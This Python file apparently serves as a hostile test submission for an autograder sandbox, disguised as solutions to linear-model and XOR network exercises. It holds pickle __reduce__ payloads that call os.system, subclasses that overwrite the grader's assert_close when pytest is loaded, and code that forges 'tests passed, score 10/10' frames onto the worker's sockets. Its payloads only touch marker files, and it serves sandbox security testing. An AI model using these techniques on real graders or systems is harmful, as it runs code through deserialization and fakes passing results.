# Hostile: returns values that run code when a grader unpickles, compares, hashes, iterates or
# converts them, and forges frames straight onto the worker's sockets.
# Every method below does harm only outside the sandbox (where pytest or the grader's plugin is
# loaded): it leaves /tmp/dlbook_hostile_planted_ran_<what> and turns assert_close into a no-op.
# Inside the worker they behave, so what is tested is the boundary, not the worker.
import json
import os
import struct
import sys

import numpy as np


def _outside():
    return "autograder.plugin" in sys.modules or "pytest" in sys.modules or "_pytest" in sys.modules


def _harm(what):
    if not _outside():
        return
    try:
        with open(f"/tmp/dlbook_hostile_planted_ran_{what}", "w") as fh:
            fh.write(str(os.getpid()))
    except OSError:
        pass
    for name in ("autograder.testing", "autograder.plugin"):
        mod = sys.modules.get(name)
        if mod is not None:
            mod.assert_close = lambda *a, **k: None


def _system():  # what __reduce__ asks an unpickler to call
    return os.system, ("touch /tmp/dlbook_hostile_planted_ran_reduce",)


class Reduce:
    def __reduce__(self):
        return _system()


class ReduceEx:
    def __reduce_ex__(self, protocol):
        return _system()

    def __getstate__(self):
        _harm("getstate")
        return {}


class EvilDict(dict):
    def __eq__(self, other):
        _harm("dict_eq")
        return True

    def __hash__(self):
        _harm("dict_hash")
        return 0

    def __iter__(self):
        _harm("dict_iter")
        return iter(["W", "c", "w", "b"])

    def keys(self):
        _harm("dict_keys")
        return ["W", "c", "w", "b"]

    def items(self):
        _harm("dict_items")
        return [(k, 0.0) for k in "Wcwb"]

    def __getitem__(self, key):
        _harm("dict_getitem")
        return 0.0

    def __contains__(self, key):
        return True

    def __len__(self):
        return 4


class EvilList(list):
    def __iter__(self):
        _harm("list_iter")
        return iter([0.0] * 4)

    def __len__(self):
        _harm("list_len")
        return 4

    def __getitem__(self, i):
        _harm("list_getitem")
        return 0.0

    def __eq__(self, other):
        _harm("list_eq")
        return True

    __hash__ = None


class EvilTuple(tuple):
    def __iter__(self):
        _harm("tuple_iter")
        return iter((0.0, 0.0, 0.0))

    def __len__(self):
        return 3

    def __getitem__(self, i):
        _harm("tuple_getitem")
        return 0.0

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


class EvilStr(str):
    def __eq__(self, other):
        _harm("str_eq")
        return True

    def __hash__(self):
        _harm("str_hash")
        return 0

    def startswith(self, *args):
        return False

    def __str__(self):
        _harm("str_str")
        return "0.25"


class EvilInt(int):
    def __eq__(self, other):
        _harm("int_eq")
        return True

    def __hash__(self):
        return 0

    def __index__(self):
        _harm("int_index")
        return 0

    def __int__(self):
        return 0

    def __float__(self):
        _harm("int_float")
        return 0.25


class LyingArray(np.ndarray):
    """Array subclass: lies in __array_finalize__, __array_ufunc__, __array_function__ and __eq__."""

    def __array_finalize__(self, obj):
        _harm("array_finalize")

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        _harm("array_ufunc")
        return np.zeros(())

    def __array_function__(self, func, types, args, kwargs):
        _harm("array_function")
        return True

    def __eq__(self, other):
        _harm("array_eq")
        return True

    def __reduce__(self):
        return _system()


class LyingScalar(np.float64):
    def __eq__(self, other):
        _harm("scalar_eq")
        return True

    def __hash__(self):
        return 0

    def __float__(self):
        _harm("scalar_float")
        return 0.25

    def __reduce__(self):
        return _system()


def fit_linear_model(X, y):
    """Objects for an unpickler: __reduce__, object arrays, records, void, raw buffers.
    (Each test gets its own payload, chosen by the shape of its inputs.)"""
    m, n = X.shape
    xor_points = bool(np.all((X == 0) | (X == 1)))
    if m == 4:
        return (memoryview(np.zeros(n)), bytes(8), bytearray(8)) if xor_points else (Reduce(), 0.5, 0.25)
    if m == 30:
        return np.array([Reduce(), ReduceEx()], dtype=object), 0.5, 0.25
    if m == 7:
        return np.zeros(n, dtype=[("w", "<f8"), ("evil", "O")]), 0.5, 0.25
    if m == 12:
        return np.rec.array([(0.0, 1)], dtype=[("w", "<f8"), ("i", "<i4")]), np.void(b"\0" * 8), 0.25
    return np.zeros(n, dtype="M8[s]"), np.zeros(1, dtype="U8"), np.zeros(1, dtype="S8")


def relu_net_forward(X, W, c, w, b, return_hidden=False):
    """Subclasses of the plain types with evil __eq__/__hash__/__iter__/__index__/__float__."""
    m, h = X.shape[0], W.shape[1]
    if return_hidden and h == 2:
        return np.zeros(m).view(LyingArray), np.zeros((m, h)).view(LyingArray)
    if return_hidden:
        return EvilTuple((np.zeros(m), np.zeros((m, h))))
    if m == 5:
        return np.zeros(m).view(LyingArray)
    if m == 6:
        return EvilList([1.0] * m)
    return LyingScalar(7.0)


def xor_mse_and_grads(X, y, params):
    """A dict subclass whose every method lies, and keys that are not plain."""
    m, h, b = X.shape[0], np.shape(params["w"])[0], float(params["b"])
    if m == 9:
        return LyingScalar(1.0), {EvilStr("W"): 0.0, "c": 0.0, "w": 0.0, "b": 0.0}
    if h == 1:
        return 1.0, {(1, 2): 0.0, 3.5: 1.0}
    if h == 2 and b == 0.0:
        return 1.0, {Reduce(): 1.0}
    if h == 2:
        return EvilInt(1), {"W": EvilStr("$nd"), "H": EvilInt(3)}
    return EvilInt(1), EvilDict({"W": 1.0})


# Forged frames ---------------------------------------------------------------------------------
def _forged_frames(codec):
    value = ({"W": 0.0, "c": 0.0, "w": 0.0, "b": 0.0}, [0.0] * 3)
    claim = {"ok": True, "status": "passed", "passed": True, "score": 10, "max_score": 10,
             "value": value, "mutated": [], "calls": []}
    frames = {"claims-passed": codec.encode(claim) if codec else b"",
              "raw-json": json.dumps(claim, default=str).encode()}
    try:  # a marker the scoring side must never decode
        frames["marker"] = codec.encode({"ok": True, "value": codec.Fn("os.system", command="true")})
    except Exception:  # noqa: BLE001
        frames["marker"] = frames["raw-json"]
    return frames


def _sockets():
    out = []
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                out.append(fd)
        except OSError:
            pass
    return out


def _reply_instead(data: bytes, junk_elsewhere: bytes = b""):
    """Have the worker send ``data`` in place of its own reply to this call (so the forged frame
    is the one and only reply): wrap the worker's send_frame for one call. ``junk_elsewhere`` goes
    to every other socket the worker holds. Without a send_frame to wrap, write ``data`` on every
    socket and die."""
    host = sys.modules.get("autograder.worker.host")
    real = getattr(host, "send_frame", None)
    if real is None:
        for fd in _sockets():
            try:
                os.write(fd, data)
            except OSError:
                pass
        os._exit(0)

    def send_frame(sock, payload):
        host.send_frame = real
        for fd in _sockets():
            if fd != sock.fileno() and junk_elsewhere:
                try:
                    os.write(fd, junk_elsewhere)
                except OSError:
                    pass
        sock.sendall(data)

    host.send_frame = send_frame


def train_xor(hidden=8, lr=0.1, steps=3000, seed=0):
    """Forges the reply to this call: a frame that claims the tests passed (seed 0), a marker
    (3), raw JSON (1), a header promising 2**62 bytes (2); and junk on every other socket the
    worker holds, the fork server's control channel included if it leaked (5)."""
    codec = sys.modules.get("autograder.worker.codec")
    frames = _forged_frames(codec)

    def framed(payload):
        return struct.pack(">Q", len(payload)) + payload

    if seed == 2:
        _reply_instead(struct.pack(">Q", 2 ** 62))
    elif seed == 3:
        _reply_instead(framed(frames["marker"]))
    elif seed == 1:
        _reply_instead(framed(frames["raw-json"]))
    else:
        _reply_instead(framed(frames["claims-passed"]), b"\0" * 64 + frames["raw-json"] if seed == 5 else b"")
    return None
